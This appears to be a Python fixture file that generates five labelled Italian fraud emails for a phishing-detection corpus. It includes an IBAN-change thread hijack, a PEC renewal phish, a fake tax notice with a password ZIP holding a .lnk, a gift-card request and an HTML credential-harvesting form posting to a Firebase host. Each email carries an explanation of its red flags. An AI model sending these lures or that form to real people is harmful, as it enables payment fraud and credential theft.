"""Attack messages, Italian (5)."""
import finance as fin
import systems as sy
from common import M, S, C
from content import (alt, plain, mixed, branded_alt, html_att, zip_att, PLACEHOLDER)
from mime import Text, Multi

F, L = "attack", "it"

# ---------------------------------------------------------------- 17 Ferretti thread hijack, IBAN change
_iban17 = fin.es_iban("0081", "7011", "0006184227")
M(F, L, "ferretti-threadhijack-cambio-iban",
  C("ferretti", 1), [S("conti")],
  "R: Estratto conto ottobre 2026 - fatture trasporto", "2026-11-05 16:48:22",
  sy.aruba("ferretti-trasporti.it", user_ip="41.216.188.37", client="webmail"),
  alt("""Gentile Giulia,

grazie per l'estratto conto. Confermiamo che le fatture n. 2026/1184, 2026/1192 e 2026/1207 (totale € 27.460,00) risultano ancora aperte.

Vi informiamo che, a seguito di una verifica fiscale in corso, il nostro conto presso Crédit Agricole è temporaneamente vincolato e non può ricevere bonifici fino alla chiusura della verifica. Vi chiediamo quindi di effettuare il pagamento delle fatture sopra indicate, e fino a nuova comunicazione di tutte le fatture successive, sul conto della società di factoring che gestisce i nostri crediti:

Intestatario: Ferretti Trasporti S.p.A. c/o Factor Iberia
IBAN: %s
BIC: BSABESBBXXX
Banca: Banco Sabadell

Con la verifica del beneficiario (VoP) la vostra banca potrebbe segnalare che il nome non corrisponde esattamente: è normale, perché il conto è intestato alla società di factoring. Potete procedere senza problemi.

Vi preghiamo di disporre il bonifico entro venerdì e di inviarci la contabile a questo indirizzo. Per qualsiasi domanda rispondete pure a questa email, in questi giorni l'ufficio è raggiungibile solo via email.

Cordiali saluti

Amministrazione
Ferretti Trasporti S.p.A.
Via Carnia Libera 1944, 33028 Tolmezzo (UD)

-----Messaggio originale-----
Da: Giulia Conti <giulia.conti@examplegroup.eu>
Inviato: martedì 3 novembre 2026 10:12
A: amministrazione@ferretti-trasporti.it
Oggetto: Estratto conto ottobre 2026 - fatture trasporto

Buongiorno,
vi inviamo in allegato il nostro estratto conto al 31/10/2026. Vi chiediamo di verificare le partite aperte e di comunicarci eventuali differenze.
Grazie e buona giornata
Giulia Conti
Example Group Italia S.r.l. - Contabilità
""" % fin.fmt_iban(_iban17), "utf-8", "qp", "plainhtml", pstyle="paren"),
  reply_to=("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti-spa.it"),
  irt="<5d1f0b7e3a9c4e21b8f6a2d4c7e91b03@EXCH02.corp.example.com>",
  refs="<5d1f0b7e3a9c4e21b8f6a2d4c7e91b03@EXCH02.corp.example.com>",
  what="Thread hijack from the genuinely compromised Ferretti Trasporti administration mailbox: in a real statement-of-account thread it redirects EUR 27,460 of carrier invoices to a Spanish 'factoring' account.",
  why="Genuine sender address but sent via Aruba webmail from a foreign IP (normally Outlook from the Tolmezzo office, see business/17); Reply-To diverts answers to the look-alike ferretti-trasporti-spa.it; pretext 'account frozen by tax audit', foreign IBAN in another name, pre-emptively tells the victim to ignore the Verification-of-Payee name mismatch, e-mail-only contact – vendor e-mail compromise.")

# ---------------------------------------------------------------- 18 Aruba PEC renewal phishing
_u18 = "https://rinnovo-pec-aruba.web.app/login?casella=examplegroupitalia%40pec.it&ord=PEC-4471920"
M(F, L, "aruba-pec-scadenza-rinnovo",
  ("Aruba PEC", "avvisi@aruba-pec-rinnovi.it"), [S("conti")],
  "La casella PEC examplegroupitalia@pec.it scade il 30/11/2026 - rinnova per non perdere i messaggi", "2026-11-18 09:05:51",
  sy.brevo(zone="eu"),
  branded_alt("La tua casella PEC è in scadenza", [
      "Gentile Cliente,",
      "ti ricordiamo che il servizio di Posta Elettronica Certificata associato alla casella examplegroupitalia@pec.it scadrà il 30/11/2026. Alla scadenza la casella verrà sospesa: non potrai più ricevere notifiche da SDI, Agenzia delle Entrate, INPS e tribunali, e i messaggi in arrivo verranno respinti al mittente con valore legale.",
      "Il rinnovo automatico non è andato a buon fine perché il metodo di pagamento registrato non è più valido. Per evitare la sospensione accedi all'Area Clienti, verifica le credenziali della casella e aggiorna il metodo di pagamento (rinnovo 1 anno: € 8,90 + IVA).",
  ], ("Rinnova ora la casella PEC", _u18),
      "Aruba S.p.A. - Via San Clemente 53, 24036 Ponte San Pietro (BG) - P.IVA 01573850516\nQuesta è una comunicazione di servizio, non rispondere a questa email.",
      cs="utf-8", cte="qp", brand="#f47a20", logo_text="Aruba.it  |  PEC", lang="it",
      preheader="Scadenza casella PEC: azione richiesta"),
  what="Aruba PEC look-alike: 'your certified-mail box expires, renewal failed, update payment', sent via Brevo with a link to Firebase hosting (web.app).",
  why="Aruba writes from staff.aruba.it and links only to areaclienti.aruba.it (compare the genuine renewal in business/18); here a look-alike sender domain, bulk ESP, link to *.web.app asking for the PEC credentials and card data; threat that SDI and tax notices will bounce.")

# ---------------------------------------------------------------- 19 Agenzia delle Entrate with password ZIP
M(F, L, "agenzia-entrate-avviso-zip-password",
  ("Agenzia delle Entrate - Ufficio Controlli", "comunicazioni@agenziaentrate-avvisi.it"), [S("conti")],
  "Comunicazione di irregolarità n. 2026/UD/0418733 - Example Group Italia S.r.l.", "2026-10-22 10:37:15",
  sy.exim_host("srv12.ilmiohosting.it", "94.177.201.39", "5.188.206.14", client="outlook", cpanel=True, zone="eu", lang="it", hcs=("iso-8859-1", "Q")),
  mixed(alt("""Spett.le Example Group Italia S.r.l.
P.IVA %s

a seguito del controllo automatizzato della dichiarazione IVA 2026 (periodo d'imposta 2025) ai sensi dell'art. 54-bis del D.P.R. 633/1972 sono emerse irregolarità nei versamenti periodici.

Trasmettiamo in allegato la comunicazione di irregolarità n. 2026/UD/0418733 con il dettaglio delle somme dovute e delle sanzioni ridotte. Il documento è protetto: per aprirlo utilizzare la password 4418.

Ai sensi dell'art. 2 del D.Lgs. 462/1997 è possibile regolarizzare la posizione entro 60 giorni dal ricevimento della presente beneficiando della riduzione delle sanzioni. In caso di mancato pagamento si procederà all'iscrizione a ruolo.

Distinti saluti

Agenzia delle Entrate
Direzione Provinciale di Udine - Ufficio Controlli
""" % fin.it_piva("0291738030"), "iso-8859-1", "qp", "outlook", lang="IT"),
        zip_att("Comunicazione_2026_UD_0418733.zip", [("Comunicazione_2026_UD_0418733.pdf.lnk", PLACEHOLDER)], password="4418", style="2047")),
  what="Agenzia delle Entrate look-alike 'comunicazione di irregolarità' with a password-protected ZIP (password 4418) containing a .pdf.lnk file.",
  why="The tax agency delivers notices via PEC/cassetto fiscale, never as password ZIPs from agenziaentrate-avvisi.it; sent from a compromised cPanel account on Italian shared hosting; the password defeats attachment scanning and the .pdf.lnk double extension is a classic loader (placeholder only here).")

# ---------------------------------------------------------------- 20 gift-card fraud
M(F, L, "gift-card-direttore-libero",
  ("Niccolò Ferraris", "niccolo.ferraris.ufficio@libero.it"), [S("zanetti")],
  "Richiesta veloce", "2026-12-10 10:18:44",
  sy.libero(user_ip="151.38.112.204"),
  Multi("alternative", [Text("""Ciao Andrea,

sei in ufficio? Ho bisogno di un favore veloce e riservato. Sono in riunione con un cliente importante fino a tardi e non posso rispondere al telefono.

Per Natale vogliamo fare un pensiero ai nostri migliori clienti: mi servono 10 gift card Amazon da 100 € ciascuna. Puoi acquistarle oggi in tabaccheria o al supermercato? Poi gratta il retro e mandami una foto dei codici via email, così le inoltro subito. Ti faccio rimborsare tutto da Giulia con la nota spese.

È una sorpresa, quindi per ora non dirlo a nessuno.

Grazie mille
Niccolò

Inviato da Libero Mail per iOS
""", "plain", "utf-8", "qp"), Text("""<div>Ciao Andrea,</div><div><br></div><div>sei in ufficio? Ho bisogno di un favore veloce e riservato. Sono in riunione con un cliente importante fino a tardi e non posso rispondere al telefono.</div><div><br></div><div>Per Natale vogliamo fare un pensiero ai nostri migliori clienti: mi servono 10 gift card Amazon da 100 € ciascuna. Puoi acquistarle oggi in tabaccheria o al supermercato? Poi gratta il retro e mandami una foto dei codici via email, così le inoltro subito. Ti faccio rimborsare tutto da Giulia con la nota spese.</div><div><br></div><div>È una sorpresa, quindi per ora non dirlo a nessuno.</div><div><br></div><div>Grazie mille</div><div>Niccolò</div><div><br></div><div>Inviato da Libero Mail per iOS</div>
""", "html", "utf-8", "qp")]),
  what="Gift-card fraud: the Udine office manager 'Niccolò Ferraris' writes from a libero.it address asking a salesman to buy ten EUR 100 Amazon gift cards and e-mail photos of the codes.",
  why="Manager's name on a free-mail address, unreachable by phone, secrecy ('it's a surprise'), scratch-and-photograph the codes – classic gift-card BEC. Genuine gift purchases go through a supplier with an order (see business/20).")

# ---------------------------------------------------------------- 21 HTML attachment, look-alike customer
_html21 = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Documento di scarto SDI - FPR 1184/2026</title></head>
<body style="margin:0;background:#faf9f8;font-family:'Segoe UI',Arial,sans-serif">
<div style="max-width:440px;margin:70px auto;background:#fff;border:1px solid #e1dfdd;padding:34px">
<div style="font-size:15px;color:#737373;margin-bottom:10px">Microsoft</div>
<div style="font-size:22px;font-weight:600;margin-bottom:12px">Documento condiviso con te</div>
<p style="font-size:14px;color:#323130">Legnami Rossi S.r.l. ha condiviso <b>Scarto_SDI_FPR_1184-2026.pdf</b>. Per motivi di sicurezza accedi con le credenziali aziendali per visualizzare il documento.</p>
<form method="post" action="https://docs-legnamirossi.firebaseapp.com/__/auth/v2/login">
<input type="email" name="u" value="giulia.conti@examplegroup.eu" style="width:100%;padding:8px;margin:6px 0;border:0;border-bottom:1px solid #666">
<input type="password" name="p" placeholder="Password" style="width:100%;padding:8px;margin:6px 0;border:0;border-bottom:1px solid #666">
<button type="submit" style="float:right;margin-top:16px;background:#0067b8;color:#fff;border:0;padding:8px 30px">Accedi</button>
</form>
<div style="clear:both"></div>
</div></body></html>
"""
M(F, L, "legnami-rossi-lookalike-html-scarto-sdi",
  ("Amministrazione Legnami Rossi S.r.l.", "amministrazione@legnamirossi-srl.it"), [S("conti")],
  "Vs. fattura n. 1184/2026 scartata da SDI - documento di scarto e correzioni", "2026-11-09 11:52:06",
  sy.vps_postfix("mail.legnamirossi-srl.it", "vps-4f2a91c7.vps.ovh.net", "51.75.143.208", ua="thunderbird", lang="it"),
  mixed(alt("""Buongiorno,

la vostra fattura elettronica n. 1184/2026 del 30/10/2026 ci è stata recapitata con scarto da parte del Sistema di Interscambio (codice errore 00311 - codice destinatario non valido). Per poterla registrare ci serve una nuova emissione con i dati corretti.

In allegato trovate il documento di scarto con le correzioni richieste dal nostro ufficio. Il file è condiviso tramite Microsoft e va aperto con le vostre credenziali aziendali.

Vi chiediamo di riemettere la fattura entro il 13/11, altrimenti il pagamento slitta al mese di gennaio.

Cordiali saluti

Ufficio Amministrazione
Legnami Rossi S.r.l.
Via Noalese 88, 31100 Treviso
""", "utf-8", "qp", "tb", pstyle="paren"),
        html_att("Scarto_SDI_FPR_1184-2026.html", _html21)),
  what="Look-alike of the customer Legnami Rossi (legnamirossi-srl.it instead of legnamirossi.it) claims an invoice was rejected by SDI and attaches an HTML 'document' that is a Microsoft-style login form.",
  why="Look-alike domain on an OVH VPS; SDI rejections are returned to the issuer by SDI itself, not by the customer as an HTML file; the attachment posts the mailbox password to a Firebase host; payment-delay pressure. Credential phishing via HTML attachment.")
